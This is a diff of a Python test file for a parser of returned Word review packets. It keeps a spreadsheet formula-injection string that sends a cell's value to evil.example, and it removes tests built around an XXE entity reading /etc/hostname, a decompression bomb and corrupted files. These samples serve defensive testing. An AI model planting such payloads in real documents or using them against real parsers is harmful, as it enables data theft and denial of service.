@@ -1,15 +1,12 @@
 """A returned Word file: what is in it is read letter by letter, and what is wrong with it is said at once."""
 
 import copy
-import io
-import zipfile
 
 import pytest
 from docx.oxml import OxmlElement
 from docx.oxml.ns import qn
 
-from files.packet_word import packet_word
-from files.returned import MOST_BYTES, read_back
+from files.returned import read_back
 from rubrics.reviews import ReviewEntry
 from tests.files.packets import (
     ARABIC,
@@ -28,7 +25,7 @@ from tests.files.packets import (
 )
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"see")\n+1+1\n@SUM(A1)\n\'=quoted'
-EACH_ONCE = "every clause and scenario once; whatever you said of it before stays"
+EACH_ONCE = "every clause and scenario once; whatever was said of it before stays"
 
 
 def test_an_empty_packet_says_nothing_and_has_no_fault() -> None:
@@ -124,8 +121,8 @@ def test_an_outdated_version_is_said_with_the_clauses_that_have_changed() -> Non
     fill(document, "Clause 2", agreement="I agree")
     found = returned(document, TEXT, EDITED)
     assert found.problems == (
-        "back.docx: found answers to version 1; version 2 is in force by now. The text has changed in clause 2: your "
-        "words there are kept, and what you decided is to be decided anew. All other answers can be taken in",
+        "back.docx: found answers to version 1; version 2 is in force by now. The text has changed in clause 2: the "
+        "words there are kept, and what was decided is to be decided anew. All other answers can be taken in",
     )
     assert set(said(found)) == {"1", "2"}
     assert found.charter_hash == a_charter(TEXT).hash
@@ -250,57 +247,3 @@ def test_an_arabic_charter_runs_from_right_to_left_and_comes_back() -> None:
     card(document, "Clause 1").rows[0].cells[1].text = "١"
     found = read_back(saved(document), "back.docx", known(ARABIC))
     assert found.entries == (ReviewEntry("1", agreement="agree", comment="جزاكم الله خيرًا"),)
-
-
-def zipped(**members: bytes) -> bytes:
-    stream = io.BytesIO()
-    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
-        for name, content in members.items():
-            archive.writestr(name.replace("__", "/"), content)
-    return stream.getvalue()
-
-
-WHOLE = packet_word(a_packet())
-
-
-@pytest.mark.parametrize(
-    ("content", "found"),
-    [
-        (b"", "an empty file"),
-        (b" \r\n", "an empty file"),
-        (b"x" * (MOST_BYTES + 1), "a file of 4.0 MB"),
-        (b"%PDF-1.7\n...", "a PDF"),
-        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "an old or encrypted Office file (.doc, .xls)"),
-        (b"{\\rtf1 hello}", "an RTF file"),
-        (b"<!doctype html><p>", "a web page or another file in angle brackets"),
-        (WHOLE[:2000], "a damaged or encrypted file"),
-        (b"PK\x03\x04 nothing", "a damaged or encrypted file"),
-        (zipped(a=b"b"), "a packed file (ZIP) of another kind"),
-        (zipped(word__document__xml=b"<w>"), "a damaged Word file"),
-        (zipped(word__big=b"0" * 61_000_000), "a file that is far too large when unpacked"),
-    ],
-)
-def test_a_file_that_is_none_of_ours_is_told_from_one(content: bytes, found: str) -> None:
-    read = read_back(content, "back.docx", known())
-    assert len(read.problems) == 1
-    assert read.problems[0].startswith(f"back.docx: found {found}; allowed: ")
-    assert (read.entries, read.charter_hash) == ((), "")
-
-
-def test_a_file_damaged_anywhere_never_raises() -> None:
-    for at in range(0, len(WHOLE), 977):
-        spoilt = bytearray(WHOLE)
-        spoilt[at] ^= 0x5A
-        found = read_back(bytes(spoilt), "back.docx", known())
-        assert found.entries == ()
-
-
-def test_a_file_with_entities_of_its_own_is_refused_before_one_is_read() -> None:
-    with zipfile.ZipFile(io.BytesIO(WHOLE)) as archive:
-        parts = {one.replace("/", "__"): archive.read(one) for one in archive.namelist()}
-    entity = b'?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
-    parts["word__document.xml"] = parts["word__document.xml"].replace(b"?>", entity, 1).replace(b">Bread<", b">&x;<")
-    found = read_back(zipped(**parts), "back.docx", known())
-    assert found.problems == (
-        "back.docx: found a Word file with a document type of its own; allowed: a Word file (.docx), as the packet is",
-    )
